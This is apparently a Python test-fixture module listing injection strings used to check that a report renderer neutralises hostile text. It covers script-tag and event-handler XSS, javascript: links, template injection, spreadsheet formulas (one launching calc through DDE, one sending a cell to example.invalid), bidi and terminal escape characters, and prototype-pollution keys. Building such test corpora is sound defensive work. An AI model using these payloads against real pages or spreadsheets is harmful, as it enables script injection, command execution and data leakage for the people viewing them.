"""Texts that want to be more than text, wherever they come to stand."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final

RUN: Final = "globalThis.__canary=1"
"""What runs where a report lets a text be code."""

TEXTS: Final[dict[str, str]] = {
    "script": f"<script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of script, odd": f"</ScRiPt\t><sCrIpT>{RUN}</sCrIpT >",
    "comment and script": f"<!--<script>{RUN}</script>-->",
    "open comment": "<!--<script>",
    "handler": f"<img src=x onerror={RUN}>",
    "handler without blanks": f"<svg/onload={RUN}>",
    "end of attribute": f'" autofocus onfocus="{RUN}" x="',
    "end of attribute, single": f"' onmouseover='{RUN}' x='",
    "end of title": f"</title></style></textarea><script>{RUN}</script>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN.removeprefix("globalThis.")}</script>"></iframe>',
    "link": f"<a href='javascript:{RUN}'>click</a>",
    "address": f"javascript:{RUN}",
    "base": "<base href='https://example.invalid/'>",
    "policy": "<meta http-equiv='Content-Security-Policy' content=\"script-src * 'unsafe-inline'\">",
    "refresh": "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "style": "<style>@import 'https://example.invalid/';*{display:none}</style>",
    "picture": "<img src='https://example.invalid/pixel.png'>",
    "form": "<form action='https://example.invalid/'><button autofocus>go</button></form>",
    "markdown link": f"[click](javascript:{RUN}) ![p](https://example.invalid/p.png) <https://example.invalid>",
    "bare addresses": "https://example.invalid www.example.invalid a@example.invalid",
    "table": "a | b\n| --- | --- |\n| c | d |",
    "fence": "```\n# no heading\n````\n<b>bold</b>",
    "heading": "# heading\n\n- item\n1. item\n> quote\n\n---\n    code",
    "setext": "text\n====",
    "reference": "[a]: https://example.invalid\n[a]",
    "template": "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{constructor.constructor('x')()}}",
    "formula": '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3",
    "formula, at": "@SUM(1+1)",
    "formula, tab": "\t=1+1",
    "formula, blank": "  =1+1",
    "formula, broad": "\uff1d1+1",
    "quotes": '"a","b"\r\n\'c\'',
    "bidi": "user \u202e\u2066nimda\u2069\u202c \u200f\u061c",
    "hidden": "a\u200bb\u2060c\ufeffd\u180ee \U000e0041\U000e0042",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "nul": "a\x00b\x1fc\x7fd\x9be",
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\ \x1b[2J",
    "lone halves": "a\ud800b\udc00c\udfff",
    "beyond": "\U0001f469\u200d\U0001f680 \ufffe \uffff \U0010ffff",
    "proto": "__proto__",
    "constructor": "constructor",
    "own words": "$float",
    "backslashes": "\\\\ \\u003c/script\\u003e \\n \\",
    "percent": "%3Cscript%3E &lt;script&gt; &#60;b&#62; &amp;",
    "blank": " ",
    "empty": "",
}

LONG: Final = "<b>" + "long \u202e" * 170_000
"""More than a million characters."""


def poisoned(value: Any, text: str) -> Any:
    """A record in which every text is that one, and every map has an entry of that name too."""
    match value:
        case str():
            return text
        case dict():
            return {**{key: poisoned(item, text) for key, item in value.items()}, text: text}
        case list():
            return [poisoned(item, text) for item in value]
        case _:
            return value


def with_names(record: Mapping[str, Any], text: str) -> dict[str, Any]:
    """A record whose metrics have that name, which stands in heads and options."""
    scores = {text: next(iter(record["scores"].values()))} if record.get("scores") else {}
    return {**record, "scores": scores}
